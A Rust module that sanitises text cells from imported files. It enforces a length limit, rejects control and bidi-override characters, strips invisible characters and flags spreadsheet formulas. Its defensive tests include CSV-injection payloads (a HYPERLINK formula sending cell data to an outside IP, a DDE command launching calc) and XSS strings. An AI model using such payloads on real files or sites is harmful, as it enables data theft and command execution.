//! Text as it comes out of other people's files.

use crate::code::{self, Code};
use std::borrow::Cow;

/// The most characters a cell may hold. A decision's content is a paragraph; more is an attachment or an attack.
pub const CELL_LIMIT_CHARS: usize = 4_000;

/// The text fit to be kept and shown, with what was put right; or why it cannot be kept.
///
/// `Ok` warnings: `CHAR_INVISIBLE` (invisible characters removed), `CHAR_NORMALIZED` (ideographic or non-breaking spaces removed at the ends;
/// plain ones go without a word), `FORMULA_TEXT` (kept as it is; a file for spreadsheets disarms it). `Err`: `CELL_TOO_LONG` above
/// [`CELL_LIMIT_CHARS`], `CHAR_CONTROL`, `CHAR_BIDI` (Unicode TR 36, section 2.6), `CHAR_REPLACEMENT`. Markup is text like any other
/// and is escaped where it is shown.
///
/// ```
/// use record::{code, text};
/// assert_eq!(text::clean("\u{3000}河北\u{200b}公司 "), Ok(("河北公司".to_owned(), vec![code::CHAR_INVISIBLE, code::CHAR_NORMALIZED])));
/// assert_eq!(text::clean("a\u{202e}b"), Err(code::CHAR_BIDI));
/// ```
pub fn clean(text: &str) -> Result<(String, Vec<Code>), Code> {
    // A character has at least one byte, so short cells need no counting.
    if text.len() > CELL_LIMIT_CHARS && text.chars().nth(CELL_LIMIT_CHARS).is_some() {
        return Err(code::CELL_TOO_LONG);
    }
    if let Some(code) = text.chars().find_map(refused) {
        return Err(code);
    }
    let mut warnings = Vec::new();
    let seen = if text.chars().any(is_invisible) {
        warnings.push(code::CHAR_INVISIBLE);
        Cow::Owned(text.chars().filter(|c| !is_invisible(*c)).collect())
    } else {
        Cow::Borrowed(text)
    };
    let trimmed = seen.trim();
    let head = &seen[..seen.len() - seen.trim_start().len()];
    let tail = &seen[seen.trim_end().len()..];
    if !head.is_ascii() || !tail.is_ascii() {
        warnings.push(code::CHAR_NORMALIZED);
    }
    if is_formula(trimmed) {
        warnings.push(code::FORMULA_TEXT);
    }
    let kept = if trimmed.contains('\r') {
        trimmed.replace("\r\n", "\n").replace('\r', "\n")
    } else {
        trimmed.to_owned()
    };
    Ok((kept, warnings))
}

/// Whether a spreadsheet would take the text for a formula. A signed number or telephone number is none.
fn is_formula(text: &str) -> bool {
    let mut chars = text.chars();
    match chars.next() {
        Some('=' | '@') => !chars.as_str().is_empty(),
        Some('+' | '-') => !chars.all(|c| c.is_ascii_digit() || " .,-%".contains(c)),
        _ => false,
    }
}

/// The fault of a character no cell may hold.
fn refused(c: char) -> Option<Code> {
    match c {
        '\t' | '\n' | '\r' => None,
        '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{9f}' => Some(code::CHAR_CONTROL),
        '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => Some(code::CHAR_BIDI),
        char::REPLACEMENT_CHARACTER => Some(code::CHAR_REPLACEMENT),
        _ => None,
    }
}

/// Whether a character shows nothing and means nothing in Chinese or English: zero width, joiners, marks of direction, soft hyphen, tags.
/// Ideographic variation selectors stay, because names are told apart by them.
pub(crate) fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{ad}'
            | '\u{61c}'
            | '\u{115f}'..='\u{1160}'
            | '\u{180e}'
            | '\u{200b}'..='\u{200f}'
            | '\u{2060}'..='\u{2064}'
            | '\u{206a}'..='\u{206f}'
            | '\u{3164}'
            | '\u{feff}'
            | '\u{ffa0}'
            | '\u{e0000}'..='\u{e007f}'
    )
}

/// The half-width form of a full-width character, and a plain space for the ideographic one.
pub fn narrow(c: char) -> char {
    match c {
        '\u{ff01}'..='\u{ff5e}' => char::from_u32(u32::from(c) - 0xfee0).unwrap_or(c),
        '\u{3000}' | '\u{a0}' => ' ',
        '\u{2212}' => '-',
        _ => c,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::code::*;

    fn check(text: &str, expected: Result<(&str, &[Code]), Code>) {
        let cleaned = clean(text);
        assert_eq!(cleaned, expected.map(|(text, codes)| (text.to_owned(), codes.to_vec())), "{text:?}");
    }

    #[test]
    fn cells_are_put_right_or_refused_by_name() {
        check("", Ok(("", &[])));
        check("  河北公司\t", Ok(("河北公司", &[])));
        check("秦皇岛\0公司", Err(CHAR_CONTROL));
        check("秦皇岛\u{202e}公司", Err(CHAR_BIDI));
        check("秦皇岛\u{200b}公司", Ok(("秦皇岛公司", &[CHAR_INVISIBLE])));
        check("\u{3000}河北公司\u{3000}", Ok(("河北公司", &[CHAR_NORMALIZED])));
        check("河北\u{3000}公司", Ok(("河北\u{3000}公司", &[])));
        check("秦皇岛\u{fffd}公司", Err(CHAR_REPLACEMENT));
        check("河北\u{1b}[31m公司", Err(CHAR_CONTROL));
        check("一\r\n二\r三\n四", Ok(("一\n二\n三\n四", &[])));
        check("䶮𠮷葛\u{e0100}", Ok(("䶮𠮷葛\u{e0100}", &[])));
        for text in [
            "<script>alert(1)</script>",
            "[点击](javascript:alert(1))",
            "“<5年” & 符号",
            "－1（全角减号，正常文本）",
        ] {
            check(text, Ok((text, &[])));
        }
        for text in [
            "=HYPERLINK(\"http://203.0.113.9/?x=\"&A2,\"点击\")",
            "+1+1",
            "-2+3",
            "@SUM(1,1)",
            "=cmd|' /C calc'!A0",
        ] {
            check(text, Ok((text, &[FORMULA_TEXT])));
        }
        check("\t=1+1", Ok(("=1+1", &[FORMULA_TEXT])));
        for text in ["-", "-5.5%", "+86 138-1234", "=", "@"] {
            check(text, Ok((text, &[])));
        }
        let longest = "字".repeat(CELL_LIMIT_CHARS);
        check(&longest, Ok((&longest, &[])));
        check(&format!("{longest}字"), Err(CELL_TOO_LONG));
    }
}
